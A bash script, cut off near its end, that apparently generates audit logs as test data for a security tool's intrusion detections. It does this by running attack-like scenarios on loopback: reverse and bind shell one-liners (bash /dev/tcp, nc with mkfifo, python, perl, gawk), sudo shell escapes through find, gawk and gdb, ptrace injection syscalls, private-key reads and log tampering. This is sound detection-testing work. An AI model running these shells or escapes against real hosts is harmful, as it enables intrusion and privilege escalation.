#!/bin/bash
# gen-detect-logs.sh OUTDIR [AUDITKIT [SCENARIO...]]
#
# Makes the real audit logs behind the built-in detections' tests
# (crates/auditkit-detect/tests/data/): one auditd run with the hardened
# rule set (`auditkit rules generate --profile harden --with perm_mod`,
# its rule lines only) plus a few rules of our own (execs, forks and exits,
# socket calls, persistence paths), then one scenario after another. Each
# scenario runs with a login uid of its own (1510, 1511, ...), so its
# events can be cut out of the one log afterwards (`ausearch -ua`) and the
# noise of other processes on the machine stays out. Scenario names start
# with `pos-` (the attack a detection must fire on, on loopback only) or
# `neg-` (the look-alike it must not fire on); `benign-` ones are ordinary
# work (a package install, cron-like loops, su logins, a cargo build) that
# must raise no high or critical alert.
# It writes OUTDIR/NAME.log per scenario, OUTDIR/harden.rules and
# OUTDIR/scenarios.txt (name, login uid, lines).
#
# With SCENARIO names (pos-mac or pos_mac, ...) only those run, each with
# the login uid it has in the full list, so one new or changed sample can
# be made without rewriting the others: only their logs are written, their
# lines of scenarios.txt replaced (others kept), and harden.rules is left
# alone (a warning says when the rule set differs from the one there).
# New scenarios go at the end of SCENARIOS, so no login uid moves.
#
# Safety: needs root. Never loads -e 2 or -f 2, nor the harden set's -D,
# -b, -f, -i, --loginuid-immutable or -e lines. Holds the kernel lock
# /tmp/auditkit-kernel.lock while it runs, stops an auditd it finds
# running only for its own run, and deletes exactly the rules it added
# (each one by its own text, not by key, since the harden keys may be in
# use by someone else). Everything it creates outside its work directory
# is a probe file named akdet-probe* that it removes again; the network
# is loopback only; the accounts akdetuser and akdet-new are removed.
# The link scenarios set fs.protected_symlinks, _hardlinks and _regular
# to 1 for a moment and put back the values they found; aa-teardown mounts
# securityfs, which is unmounted again if it was not mounted before.
#
# Installing gawk for it makes gawk Debian's /usr/bin/awk; the augenrules
# tests compare with the real augenrules under mawk, so put awk back with
# `update-alternatives --set awk /usr/bin/mawk` (this script calls gawk by
# name).
set -u
OUT=${1:?usage: gen-detect-logs.sh OUTDIR [AUDITKIT [SCENARIO...]]}
AK=${2:-$(dirname "$0")/../target/debug/auditkit}
shift; shift 2>/dev/null
ONLY=" $(echo "$*" | tr - _) "
[ "$(id -u)" = 0 ] || { echo "needs root" >&2; exit 2; }
PY=/usr/bin/python3
# What the scenarios run beyond the base tools, checked for the ones
# that will run (a run of a few scenarios needs only theirs).
needs_of() {
  case $1 in
    pos_revshell|neg_revshell) echo nc.openbsd gawk perl ;;
    neg_ptrace) echo strace ;;
    neg_privkey) echo sshd ;;
    pos_firewall|neg_config) echo nft ;;
    pos_setuid) echo setcap pkexec ;;
    neg_setuid) echo getcap ;;
    pos_download|neg_download) echo curl wget ;;
    pos_kmod|neg_kmod) echo insmod rmmod modprobe lsmod kmod ;;
    pos_webshell|neg_webshell) echo lighttpd curl ;;
    pos_gtfo|neg_gtfo) echo sudo gawk gdb ;;
    pos_bruteforce|neg_bruteforce) echo sshd ssh ;;
    benign_build) echo cargo ;;
    pos_mac|neg_mac) echo setenforce getenforce aa-complain aa-disable aa-enforce aa-status aa-teardown ;;
    pos_anom_user|neg_anom_user) echo pamtester ;;
  esac
}
for t in auditd auditctl ausearch flock useradd setpriv runuser gcc ssh-keygen $PY "$AK"; do
  command -v "$t" >/dev/null || [ -x "$t" ] || { echo "needs $t" >&2; exit 2; }
done
$PY -c 'import audit' 2>/dev/null || { echo "needs python3-audit for $PY" >&2; exit 2; }
# Scenario functions are sc_NAME, run in this order; new ones go at the end.
SCENARIOS="proctree pos_tmp_exec neg_tmp_exec pos_abi32 neg_abi32 pos_mknod neg_mknod pos_revshell neg_revshell
pos_ptrace neg_ptrace pos_privkey neg_privkey pos_logtamper neg_logtamper pos_authkeys pos_aptkey pos_ca pos_pam
pos_cron pos_sudoers pos_firewall pos_netconf neg_config pos_setuid neg_setuid pos_preload neg_preload pos_sleep
neg_sleep pos_download neg_download pos_kmod neg_kmod pos_anom neg_anom pos_webshell neg_webshell
pos_foreign_exec neg_foreign_exec pos_daemon_exec neg_daemon_exec pos_gtfo neg_gtfo pos_useradd neg_useradd
pos_persist neg_persist pos_bruteforce neg_bruteforce benign_apt benign_cron benign_su benign_build
pos_mac neg_mac pos_anom_link neg_anom_link pos_anom_user neg_anom_user"
want() { [ "$ONLY" = "  " ] || [[ $ONLY == *" $1 "* ]]; }
for s in $ONLY; do
  case " $(echo $SCENARIOS) " in *" $s "*) ;; *) echo "no scenario $s" >&2; exit 2 ;; esac
done
for s in $SCENARIOS; do
  want "$s" || continue
  for t in $(needs_of "$s"); do
    command -v "$t" >/dev/null || { echo "$s needs $t (apt-get install -y auditd sudo openssh-server openssh-client netcat-openbsd gawk lighttpd libcap2-bin gcc gdb strace curl wget kmod nftables pkexec python3-audit pamtester selinux-utils apparmor-utils)" >&2; exit 2; }
  done
done
mkdir -p "$OUT"; OUT=$(cd "$OUT" && pwd)
# The work directory is not world-writable (no /tmp), so that only the
# scenarios that mean to run from /tmp do; other users can read it.
WORK=$(mktemp -d /var/lib/akdet.XXXXXX); chmod 755 "$WORK"
# auditd makes its log directory 0700: the log gets a directory of its own.
mkdir -p "$WORK/log"; LOG=$WORK/log/audit.log
exec 9>/tmp/auditkit-kernel.lock
flock 9

USERNAME=akdetuser
id "$USERNAME" >/dev/null 2>&1 || useradd -m -u 1600 -s /bin/bash "$USERNAME"
UHOME=$(getent passwd $USERNAME | cut -d: -f6)
runuser -u $USERNAME -- mkdir -p "$UHOME/.config/systemd/user"

AUDITD_PID=; PIDS=()
ENABLED=$(auditctl -s | awk '/^enabled/{print $2}')
SYSCTLS="fs.protected_symlinks fs.protected_hardlinks fs.protected_regular"
SYSCTLS_FOUND=$(for k in $SYSCTLS; do printf '%s=%s ' "$k" "$(sysctl -n "$k")"; done)
restore_sysctls() { local kv; for kv in $SYSCTLS_FOUND; do sysctl -qw "$kv"; done; }
SECFS_MOUNTED=$(grep -c ' /sys/kernel/security ' /proc/mounts)
# Delete exactly the rules we added, each by its own text (-a becomes -d,
# -w becomes -W); the words of a rule are split as when it was added.
delete_added() {
  local r
  while IFS= read -r r; do
    # shellcheck disable=SC2086
    case $r in
      -w*) auditctl -W ${r#-w} >/dev/null 2>&1 ;;
      -a*) auditctl -d ${r#-a} >/dev/null 2>&1 ;;
    esac
  done < "$WORK/added"
}
cleanup() {
  if [ -f "$WORK/added" ]; then
    delete_added
  fi
  for p in "${PIDS[@]}"; do kill "$p" 2>/dev/null; done
  if [ -n "$AUDITD_PID" ]; then kill "$AUDITD_PID" 2>/dev/null; wait "$AUDITD_PID" 2>/dev/null; fi
  [ "$ENABLED" = 0 ] || [ "$ENABLED" = 1 ] && auditctl -e "$ENABLED" >/dev/null 2>&1
  rm -f /etc/sudoers.d/akdet-probe /etc/sudoers.d/akdet-gtfo /etc/pam.d/akdet-probe /etc/cron.d/akdet-probe \
        /etc/apt/trusted.gpg.d/akdet-probe.gpg /usr/local/share/ca-certificates/akdet-probe.crt \
        /etc/security/akdet-probe /etc/systemd/system/akdet-probe.service /etc/init.d/akdet-probe \
        /var/log/audit/akdet-probe /root/.ssh/akdet-probe /tmp/akdet-* /dev/shm/akdet-* /var/tmp/akdet-*
  [ -f "$WORK/rc.local.created" ] && rm -f /etc/rc.local
  [ -f "$WORK/ld.so.preload.created" ] && rm -f /etc/ld.so.preload
  ip link set lo promisc off 2>/dev/null
  restore_sysctls
  [ "$SECFS_MOUNTED" = 0 ] && grep -q ' /sys/kernel/security ' /proc/mounts && umount /sys/kernel/security
  rm -f /etc/pam.d/akdet-anom /etc/pam.d/akdet-anom-ok
  userdel akdet-new >/dev/null 2>&1
  userdel -r "$USERNAME" >/dev/null 2>&1
  rm -rf "$WORK"
}
trap cleanup EXIT INT TERM

# --- auditd of our own ----------------------------------------------------
for p in $(pgrep -x auditd); do echo "stopping running auditd pid $p" >&2; kill "$p"; done
for i in $(seq 50); do pgrep -x auditd >/dev/null || break; sleep 0.2; done
mkdir -p "$WORK/conf/plugins.d"
cat > "$WORK/conf/auditd.conf" <<CONF
local_events = yes
write_logs = yes
log_file = $LOG
log_group = root
log_format = ENRICHED
flush = INCREMENTAL_ASYNC
freq = 50
max_log_file = 200
max_log_file_action = IGNORE
space_left = 10
space_left_action = IGNORE
admin_space_left = 5
admin_space_left_action = IGNORE
disk_full_action = IGNORE
disk_error_action = SYSLOG
name_format = NONE
plugin_dir = $WORK/conf/plugins.d
q_depth = 8000
end_of_event_timeout = 2
CONF
chmod 640 "$WORK/conf/auditd.conf"
/usr/sbin/auditd -n -s enable -c "$WORK/conf" & AUDITD_PID=$!
for i in $(seq 50); do [ "$(auditctl -s | awk '/^pid/{print $2}')" = "$AUDITD_PID" ] && break; sleep 0.2; done
[ "$(auditctl -s | awk '/^pid/{print $2}')" = "$AUDITD_PID" ] || { echo "auditd did not start" >&2; exit 1; }

# --- rules: the harden set's rule lines, then ours ------------------------
"$AK" rules generate --profile harden --with perm_mod --without immutable > "$WORK/harden.rules" || exit 1
: > "$WORK/added"
add_rule() { # one rule line; remembered only if the kernel took it
  local r=$1
  # shellcheck disable=SC2086
  if auditctl $r >/dev/null 2>&1; then printf '%s\n' "$r" >> "$WORK/added"; fi
}
grep -E '^-(a|w) ' "$WORK/harden.rules" | grep -v 'always,exclude' | while IFS= read -r r; do add_rule "$r"; done
A="-F auid>=1510 -F auid<=1599"
for r in \
  "-a always,exit -F arch=b64 -S execve,execveat $A -k akdet-exec" \
  "-a always,exit -F arch=b64 -S clone,fork,vfork $A -k akdet-proc" \
  "-a always,exit -F arch=b64 -S exit_group $A -k akdet-proc" \
  "-a always,exit -F arch=b64 -S connect,bind,accept,accept4 $A -k akdet-net" \
  "-w /etc/systemd/system/ -p wa -k akdet-persist" \
  "-w /etc/init.d/ -p wa -k akdet-persist" \
  "-w /etc/rc.local -p wa -k akdet-persist" \
  "-w $UHOME/.config/systemd/user/ -p wa -k akdet-persist"; do
  add_rule "$r"
done
echo "$(wc -l < "$WORK/added") rules loaded" >&2

# --- helpers --------------------------------------------------------------
mkdir -p "$WORK/bin" "$WORK/www/cgi-bin" "$WORK/fakeroot" "$WORK/journal" "$WORK/lt"
chown www-data: "$WORK/lt"
cp /bin/true "$WORK/bin/true-copy"
cat > "$WORK/abi32.c" <<'C'
/* One 32-bit system call (getpid through int 0x80) from a 64-bit program. */
int main(void) { long r; __asm__ volatile("int $0x80" : "=a"(r) : "a"(20L)); return r > 0 ? 0 : 1; }
C
gcc -O0 -o "$WORK/bin/abi32" "$WORK/abi32.c"
echo "upload me" > "$WORK/upload.txt"
echo "hello" > "$WORK/www/index.html"
printf '#!/bin/sh\necho "Content-Type: text/plain"\necho\n/bin/sh -c id\n' > "$WORK/www/cgi-bin/run.sh"
chmod 755 "$WORK/www/cgi-bin/run.sh"; chmod -R a+rX "$WORK/www"
cat > "$WORK/lighttpd.conf" <<CONF
server.modules = ( "mod_cgi", "mod_alias" )
server.document-root = "$WORK/www"
server.bind = "127.0.0.1"
server.port = 18080
server.pid-file = "$WORK/lighttpd.pid"
server.errorlog = "$WORK/lt/error.log"
server.username = "www-data"
server.groupname = "www-data"
alias.url = ( "/cgi-bin/" => "$WORK/www/cgi-bin/" )
cgi.assign = ( ".sh" => "/bin/sh" )
CONF
ssh-keygen -q -t ed25519 -N '' -f "$WORK/hostkey"
mkdir -p /run/sshd
cat > "$WORK/sshd_config" <<CONF
Port 2223
ListenAddress 127.0.0.1
HostKey $WORK/hostkey
PasswordAuthentication yes
KbdInteractiveAuthentication no
UsePAM yes
MaxAuthTries 10
PidFile $WORK/sshd.pid
CONF
printf '#!/bin/sh\necho wrong-password\n' > "$WORK/askpass"; chmod 755 "$WORK/askpass"
echo "$USERNAME ALL=(root) NOPASSWD: /usr/bin/find, /usr/bin/gawk, /usr/bin/gdb, /usr/bin/id" > "$WORK/sudoers-gtfo"
# AppArmor tools on a profile in a scratch directory (with the includes
# a profile needs), so that nothing under /etc/apparmor.d changes.
mkdir -p "$WORK/apparmor.d/disable" "$WORK/apparmor.d/force-complain"
cp -r /etc/apparmor.d/tunables /etc/apparmor.d/abstractions /etc/apparmor.d/abi "$WORK/apparmor.d/"
printf 'abi <abi/3.0>,\ninclude <tunables/global>\nprofile akdet-probe /usr/bin/akdet-probe {\n  include <abstractions/base>\n}\n' > "$WORK/apparmor.d/akdet-probe"
# For the link protections: a sticky world-writable directory owned by
# root, with a symlink and a file (mode 666) of a third user, and a file
# only root can read; made here, before any scenario's login uid.
mkdir -p "$WORK/sticky"; chmod 1777 "$WORK/sticky"
setpriv --reuid=nobody --regid=nogroup --clear-groups ln -s /etc/hostname "$WORK/sticky/akdet-nobodys-link"
setpriv --reuid=nobody --regid=nogroup --clear-groups sh -c "echo x > $WORK/sticky/akdet-nobodys-file; chmod 666 $WORK/sticky/akdet-nobodys-file"
echo secret > "$WORK/rootonly"; chmod 600 "$WORK/rootonly"
# PAM stacks for pamtester, with service names of their own (sc_pos_pam
# creates and removes /etc/pam.d/akdet-probe): akdet-anom locks an
# account after three failures (pam_faillock) and refuses akdetuser from
# 127.0.0.1 (pam_access, which audits only a rule whose origin is not ALL)
# and at any time (pam_time); akdet-anom-ok has the same modules, allowing.
mkdir -p "$WORK/faillock" "$WORK/faillock-ok"
pam_stack() { # $1 = faillock dir, $2 = access file, $3 = time file
  printf '%s\n' \
    "auth     required  pam_faillock.so preauth deny=3 unlock_time=600 dir=$1" \
    "auth     [success=1 default=bad] pam_unix.so" \
    "auth     [default=die] pam_faillock.so authfail deny=3 unlock_time=600 dir=$1" \
    "auth     sufficient pam_faillock.so authsucc deny=3 dir=$1" \
    "account  required  pam_access.so accessfile=$2" \
    "account  required  pam_time.so conffile=$3"
}
printf -- '-:%s:127.0.0.1\n+:ALL:ALL\n' $USERNAME > "$WORK/access-deny.conf"
printf -- '+:ALL:ALL\n' > "$WORK/access-ok.conf"
printf 'akdet-anom;*;%s;!Al0000-2400\n' $USERNAME > "$WORK/time-deny.conf"
printf 'akdet-anom-ok;*;%s;Al0000-2400\n' $USERNAME > "$WORK/time-ok.conf"
pam_stack "$WORK/faillock" "$WORK/access-deny.conf" "$WORK/time-deny.conf" > /etc/pam.d/akdet-anom
pam_stack "$WORK/faillock-ok" "$WORK/access-ok.conf" "$WORK/time-ok.conf" > /etc/pam.d/akdet-anom-ok
# Pre-fetch the package the benign install reinstalls, before auditing.
want benign_apt && apt-get install --reinstall -d -y -q netcat-openbsd >/dev/null 2>&1

listen_once() { # $1 = port; a loopback listener that sends `id; exit` and closes
  ( printf 'id\nexit\n'; sleep 1 ) | timeout 5 nc.openbsd -l 127.0.0.1 "$1" >/dev/null 2>&1 &
  sleep 0.3
}

# --- scenarios ------------------------------------------------------------
sc_proctree() { # nested shells: the process tree of the last exec is 6 deep
  bash -c 'sh -c "bash -c \"sh -c \\\"/usr/bin/id -u\\\"\""' >/dev/null
  bash -c 'cd /usr && sh -c "/bin/ls -d /usr/lib >/dev/null; /usr/bin/true"'
}
sc_pos_tmp_exec() {
  cp /bin/true /tmp/akdet-true; /tmp/akdet-true
  cp /bin/true /dev/shm/akdet-true; /dev/shm/akdet-true
  cp /bin/true /var/tmp/akdet-true; /var/tmp/akdet-true
  rm -f /tmp/akdet-true /dev/shm/akdet-true /var/tmp/akdet-true
}
sc_neg_tmp_exec() { "$WORK/bin/true-copy"; /usr/bin/true; ls /tmp >/dev/null; }
sc_pos_abi32() { "$WORK/bin/abi32"; }
sc_neg_abi32() { "$WORK/bin/true-copy"; /usr/bin/id >/dev/null; }
sc_pos_mknod() { mkfifo /tmp/akdet-fifo; mknod /dev/shm/akdet-null c 1 3; rm -f /tmp/akdet-fifo /dev/shm/akdet-null; }
sc_neg_mknod() { mkfifo "$WORK/fifo"; rm -f "$WORK/fifo"; }
sc_pos_revshell() {
  listen_once 18001; bash -c 'exec 3<>/dev/tcp/127.0.0.1/18001; cat <&3 >/dev/null' ; wait
  listen_once 18002; gawk 'BEGIN { s = "/inet/tcp/0/127.0.0.1/18002"; print "x" |& s; s |& getline; close(s) }'; wait
  listen_once 18003; rm -f "$WORK/f"; mkfifo "$WORK/f"; timeout 5 sh -c "sh -i < $WORK/f 2>&1 | nc.openbsd 127.0.0.1 18003 > $WORK/f"; rm -f "$WORK/f"; wait
  listen_once 18004; $PY -c 'import socket,subprocess,os;s=socket.socket();s.connect(("127.0.0.1",18004));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(["/bin/sh","-i"])' 2>/dev/null; wait
  listen_once 18005; perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in(18005,inet_aton("127.0.0.1")))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};' 2>/dev/null; wait
  # bind shells: a shell waits on a port, a client connects
  ( timeout 5 nc.openbsd -l 127.0.0.1 18006 -e /bin/sh 2>/dev/null || timeout 5 sh -c "rm -f $WORK/g; mkfifo $WORK/g; sh -i < $WORK/g 2>&1 | nc.openbsd -l 127.0.0.1 18006 > $WORK/g" ) &
  sleep 0.5; printf 'id\nexit\n' | timeout 3 nc.openbsd -q 1 127.0.0.1 18006 >/dev/null 2>&1; wait
  $PY -c 'import socket,subprocess
s=socket.socket();s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1);s.bind(("127.0.0.1",18007));s.listen(1);s.settimeout(5)
c,_=s.accept();subprocess.call(["/bin/sh","-c","id"],stdin=c,stdout=c,stderr=c);c.close()' &
  sleep 0.5; timeout 3 nc.openbsd -q 1 127.0.0.1 18007 </dev/null >/dev/null 2>&1; wait
  rm -f "$WORK/g"
}
sc_neg_revshell() {
  bash -c 'exec 3</etc/hostname; cat <&3 >/dev/null'
  $PY -c 'import socket; s=socket.socket(socket.AF_UNIX); s.close(); print(open("/etc/hostname").read()[:0])'
  perl -e 'print ""'
  gawk 'BEGIN { print "x" > "/dev/null" }'
}
sc_pos_ptrace() {
  sleep 30 & local victim=$!
  $PY - "$victim" <<'PY'
import ctypes, sys, os
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
pid = int(sys.argv[1])
PTRACE_PEEKTEXT, PTRACE_POKETEXT, PTRACE_ATTACH, PTRACE_DETACH, PTRACE_GETREGS = 1, 4, 16, 17, 12
libc.ptrace(PTRACE_ATTACH, pid, None, None); os.waitpid(pid, 0)
regs = ctypes.create_string_buffer(27 * 8)
libc.ptrace(PTRACE_GETREGS, pid, None, regs)
rip = int.from_bytes(regs.raw[16 * 8:17 * 8], "little")
word = libc.ptrace(PTRACE_PEEKTEXT, pid, ctypes.c_void_p(rip), None)
# write the same word back: an injection's syscall, without changing the code
libc.ptrace(PTRACE_POKETEXT, pid, ctypes.c_void_p(rip), ctypes.c_void_p(word & 0xFFFFFFFFFFFFFFFF))
libc.ptrace(PTRACE_DETACH, pid, None, None)
PY
  kill "$victim"; wait "$victim" 2>/dev/null
}
sc_neg_ptrace() { strace -o /dev/null /bin/true; }
sc_pos_privkey() { cat /etc/ssh/ssh_host_ed25519_key >/dev/null; cat /etc/ssl/private/ssl-cert-snakeoil.key >/dev/null; }
sc_neg_privkey() { cat /etc/ssh/ssh_host_ed25519_key.pub >/dev/null; /usr/sbin/sshd -t -f /etc/ssh/sshd_config 2>/dev/null; }
sc_pos_logtamper() {
  auditctl -D -k akdet-no-such-key >/dev/null 2>&1   # deletes nothing: no rule has this key
  touch /var/log/audit/akdet-probe; rm -f /var/log/audit/akdet-probe
  journalctl --directory="$WORK/journal" --vacuum-time=1s >/dev/null 2>&1
}
sc_neg_logtamper() { auditctl -l >/dev/null; auditctl -s >/dev/null; cat /etc/audit/auditd.conf >/dev/null 2>&1; }
sc_pos_authkeys() { touch /root/.ssh/akdet-probe; rm -f /root/.ssh/akdet-probe; }
sc_pos_aptkey() { touch /etc/apt/trusted.gpg.d/akdet-probe.gpg; rm -f /etc/apt/trusted.gpg.d/akdet-probe.gpg; }
sc_pos_ca() { touch /usr/local/share/ca-certificates/akdet-probe.crt; rm -f /usr/local/share/ca-certificates/akdet-probe.crt; }
sc_pos_pam() { touch /etc/security/akdet-probe /etc/pam.d/akdet-probe; rm -f /etc/security/akdet-probe /etc/pam.d/akdet-probe; }
sc_pos_cron() { echo '# akdet probe' > /etc/cron.d/akdet-probe; rm -f /etc/cron.d/akdet-probe; }
sc_pos_sudoers() { echo '# akdet probe' > /etc/sudoers.d/akdet-probe; chmod 440 /etc/sudoers.d/akdet-probe; rm -f /etc/sudoers.d/akdet-probe; }
sc_pos_firewall() { nft add table inet akdet_probe 2>/dev/null; nft delete table inet akdet_probe 2>/dev/null; }
sc_pos_netconf() {
  ip link set lo promisc on; ip link set lo promisc off
  printf '' >> /etc/hosts   # opened for writing, nothing written: the watch sees a write
}
sc_neg_config() {
  cat /etc/pam.d/common-auth /etc/crontab /etc/sudoers >/dev/null 2>&1; ls /etc/cron.d /root/.ssh /etc/apt/trusted.gpg.d >/dev/null
  ip addr show lo >/dev/null; nft --version >/dev/null 2>&1
}
sc_pos_setuid() {
  cp /bin/true "$WORK/bin/suid-true"; chmod u+s "$WORK/bin/suid-true"; chmod 4755 "$WORK/bin/suid-true"
  setcap cap_net_raw+ep "$WORK/bin/true-copy"; setcap -r "$WORK/bin/true-copy"
  pkexec /bin/true >/dev/null 2>&1
}
sc_neg_setuid() { cp /bin/true "$WORK/bin/plain"; chmod 755 "$WORK/bin/plain"; chmod go-w "$WORK/bin/plain"; getcap "$WORK/bin/plain"; }
sc_pos_preload() {
  env LD_PRELOAD="$WORK/akdet-none.so" /bin/true 2>/dev/null
  bash -c "export LD_PRELOAD=$WORK/akdet-none.so; /bin/true" 2>/dev/null
  if [ ! -e /etc/ld.so.preload ]; then touch "$WORK/ld.so.preload.created"; touch /etc/ld.so.preload; rm -f /etc/ld.so.preload; rm -f "$WORK/ld.so.preload.created"; fi
}
sc_neg_preload() { env LANG=C /bin/true; cat /etc/ld.so.conf >/dev/null; }
sc_pos_sleep() { systemctl --root="$WORK/fakeroot" mask sleep.target suspend.target hibernate.target >/dev/null 2>&1; }
sc_neg_sleep() { systemctl --version >/dev/null; }
sc_pos_download() {
  ( cd "$WORK/www" && timeout 8 $PY -m http.server --bind 127.0.0.1 18090 >/dev/null 2>&1 ) & local srv=$!
  sleep 1
  curl -s -o "$WORK/dl1" http://127.0.0.1:18090/index.html
  wget -q -O "$WORK/dl2" http://127.0.0.1:18090/index.html
  curl -s -T "$WORK/upload.txt" http://127.0.0.1:18090/up >/dev/null
  curl -s --data-binary @"$WORK/upload.txt" http://127.0.0.1:18090/up >/dev/null
  wget -q -O /dev/null --post-file="$WORK/upload.txt" http://127.0.0.1:18090/up
  kill $srv 2>/dev/null; wait $srv 2>/dev/null
}
sc_neg_download() { curl --version >/dev/null; cat "$WORK/upload.txt" >/dev/null; }
sc_pos_kmod() {
  $PY -c 'import ctypes,os
libc = ctypes.CDLL(None, use_errno=True)
fd = os.open("/dev/null", os.O_RDONLY)
libc.syscall(313, fd, b"", 0)        # finit_module
libc.syscall(176, b"akdet_none", 0)  # delete_module
'
  insmod "$WORK/akdet-none.ko" 2>/dev/null; rmmod akdet_none 2>/dev/null; modprobe akdet_none 2>/dev/null
}
sc_neg_kmod() { lsmod >/dev/null 2>&1; kmod --version >/dev/null; }
sc_pos_anom() {
  bash -c 'kill -SEGV $$' 2>/dev/null
  ip link set lo promisc on; ip link set lo promisc off
}
sc_neg_anom() { bash -c 'exit 3'; sh -c 'kill -TERM $$' 2>/dev/null; true; }
sc_pos_webshell() {
  lighttpd -f "$WORK/lighttpd.conf"; sleep 0.5
  curl -s http://127.0.0.1:18080/cgi-bin/run.sh >/dev/null
  kill "$(cat "$WORK/lighttpd.pid")" 2>/dev/null; sleep 0.3
}
sc_neg_webshell() {
  lighttpd -f "$WORK/lighttpd.conf"; sleep 0.5
  curl -s http://127.0.0.1:18080/index.html >/dev/null
  kill "$(cat "$WORK/lighttpd.pid")" 2>/dev/null; sleep 0.3
}
sc_pos_foreign_exec() {
  cp /bin/true "$WORK/bin/users-true"; chown $USERNAME: "$WORK/bin/users-true"; "$WORK/bin/users-true"
}
sc_neg_foreign_exec() { "$WORK/bin/true-copy"; /usr/bin/true; runuser -u $USERNAME -- "$WORK/bin/users-true"; }
sc_pos_daemon_exec() {
  setpriv --reuid=daemon --regid=daemon --clear-groups /usr/bin/id >/dev/null
  setpriv --reuid=www-data --regid=www-data --clear-groups /bin/sh -c 'cat /etc/hostname' >/dev/null
}
sc_neg_daemon_exec() { runuser -u $USERNAME -- /usr/bin/id >/dev/null; /usr/bin/id >/dev/null; }
sc_pos_gtfo() {
  cp "$WORK/sudoers-gtfo" /etc/sudoers.d/akdet-gtfo; chmod 440 /etc/sudoers.d/akdet-gtfo
  runuser -u $USERNAME -- sudo -n /usr/bin/find /etc/hostname -maxdepth 0 -exec /bin/sh -c id \; >/dev/null 2>&1
  runuser -u $USERNAME -- sudo -n /usr/bin/gawk 'BEGIN { system("/bin/sh -c id") }' >/dev/null 2>&1
  runuser -u $USERNAME -- sudo -n /usr/bin/gdb -nx -batch -ex '!/bin/sh -c id' >/dev/null 2>&1
  rm -f /etc/sudoers.d/akdet-gtfo
}
sc_neg_gtfo() {
  cp "$WORK/sudoers-gtfo" /etc/sudoers.d/akdet-gtfo; chmod 440 /etc/sudoers.d/akdet-gtfo
  runuser -u $USERNAME -- sudo -n /usr/bin/id >/dev/null 2>&1
  runuser -u $USERNAME -- sudo -n /usr/bin/find /etc/hostname -maxdepth 0 >/dev/null 2>&1
  rm -f /etc/sudoers.d/akdet-gtfo
}
sc_pos_useradd() { useradd -M -s /usr/sbin/nologin akdet-new; userdel akdet-new; }
sc_neg_useradd() { id root >/dev/null; getent passwd root >/dev/null; }
sc_pos_persist() {
  printf '[Service]\nExecStart=/bin/true\n' > /etc/systemd/system/akdet-probe.service; rm -f /etc/systemd/system/akdet-probe.service
  printf '#!/bin/sh\n' > /etc/init.d/akdet-probe; rm -f /etc/init.d/akdet-probe
  if [ ! -e /etc/rc.local ]; then touch "$WORK/rc.local.created"; printf '#!/bin/sh\nexit 0\n' > /etc/rc.local; rm -f /etc/rc.local "$WORK/rc.local.created"; fi
  runuser -u $USERNAME -- sh -c 'mkdir -p ~/.config/systemd/user && printf "[Service]\nExecStart=/bin/true\n" > ~/.config/systemd/user/akdet-probe.service && rm -f ~/.config/systemd/user/akdet-probe.service'
}
sc_neg_persist() { ls /etc/systemd/system /etc/init.d >/dev/null; cat /etc/init.d/* >/dev/null 2>&1; }
ssh_fail() {
  SSH_ASKPASS="$WORK/askpass" SSH_ASKPASS_REQUIRE=force DISPLAY=: setsid -w ssh -q -p 2223 \
    -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o PreferredAuthentications=password \
    -o NumberOfPasswordPrompts=1 -o ConnectTimeout=5 $USERNAME@127.0.0.1 true </dev/null >/dev/null 2>&1
}
sc_pos_bruteforce() {
  /usr/sbin/sshd -f "$WORK/sshd_config"; sleep 0.5
  for i in 1 2 3 4 5 6 7 8; do ssh_fail; done
  kill "$(cat "$WORK/sshd.pid")" 2>/dev/null; sleep 0.3
}
sc_neg_bruteforce() {
  /usr/sbin/sshd -f "$WORK/sshd_config"; sleep 0.5
  ssh_fail
  kill "$(cat "$WORK/sshd.pid")" 2>/dev/null; sleep 0.3
}
sc_benign_apt() { DEBIAN_FRONTEND=noninteractive apt-get install --reinstall -y -q --no-download netcat-openbsd >/dev/null 2>&1; }
sc_benign_cron() {
  for i in 1 2 3; do
    sh -c 'date >/dev/null; run-parts --test /etc/cron.daily >/dev/null 2>&1; find /var/log -maxdepth 1 -name "*.log" -mtime +30 >/dev/null'
    sleep 0.2
  done
}
sc_benign_su() { su - $USERNAME -c 'id; ls ~ >/dev/null'; su -s /bin/sh $USERNAME -c true; }
sc_benign_build() {
  local d=$WORK/cargo-demo; mkdir -p "$d/src"
  printf '[package]\nname = "akdet-demo"\nversion = "0.1.0"\nedition = "2021"\n' > "$d/Cargo.toml"
  printf 'fn main() { println!("hi"); }\n' > "$d/src/main.rs"
  ( cd "$d" && CARGO_TARGET_DIR="$d/target" cargo build --offline -q 2>/dev/null && ./target/debug/akdet-demo >/dev/null )
}

# This kernel has no SELinux or AppArmor LSM: the tools fail, but their
# execs are what the detection sees (the MAC_STATUS record a real
# `setenforce 0` adds cannot be made here).
sc_pos_mac() {
  setenforce 0 2>/dev/null; setenforce Permissive 2>/dev/null
  aa-complain -d "$WORK/apparmor.d" "$WORK/apparmor.d/akdet-probe" >/dev/null 2>&1
  aa-disable -d "$WORK/apparmor.d" "$WORK/apparmor.d/akdet-probe" >/dev/null 2>&1
  aa-teardown >/dev/null 2>&1
  [ "$SECFS_MOUNTED" = 0 ] && grep -q ' /sys/kernel/security ' /proc/mounts && umount /sys/kernel/security
}
sc_neg_mac() {
  getenforce >/dev/null; setenforce 1 2>/dev/null; aa-status >/dev/null 2>&1
  aa-enforce -d "$WORK/apparmor.d" "$WORK/apparmor.d/akdet-probe" >/dev/null 2>&1
}
as_user() { setpriv --reuid=$USERNAME --regid=$USERNAME --init-groups "$@"; }
# The kernel's link protections refuse, and say so with ANOM_LINK
# (following another user's symlink in a sticky world-writable directory;
# hard-linking a file the user may not read) and ANOM_CREAT (O_CREAT on
# another user's file there).
sc_pos_anom_link() {
  sysctl -qw fs.protected_symlinks=1 fs.protected_hardlinks=1 fs.protected_regular=1
  as_user cat "$WORK/sticky/akdet-nobodys-link" >/dev/null 2>&1
  as_user ln "$WORK/rootonly" "$WORK/sticky/akdet-hardlink" 2>/dev/null
